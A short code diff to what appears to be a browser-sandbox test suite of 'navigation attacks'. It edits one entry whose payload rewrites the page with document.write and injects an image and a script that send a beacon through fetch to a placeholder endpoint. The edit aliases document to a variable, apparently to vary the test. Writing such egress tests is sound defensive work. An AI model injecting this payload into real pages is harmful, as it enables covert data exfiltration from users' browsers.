@@ -63,7 +63,7 @@ export const navigationAttacks: readonly Attack[] = [
   {
     id: "document-write",
     title: "document.open/write of a new page",
-    code: String.raw`document.open();document.write('<img src="{{E}}/x/{{T}}"><script>fetch("{{E}}/x/{{T}}-f",{mode:"no-cors"})</scr'+'ipt>');document.close()`,
+    code: String.raw`const d=document;d.open();d.write('<img src="{{E}}/x/{{T}}"><script>fetch("{{E}}/x/{{T}}-f",{mode:"no-cors"})</scr'+'ipt>');d.close()`,
     signs: ["egress"],
     ownTile: true,
   },
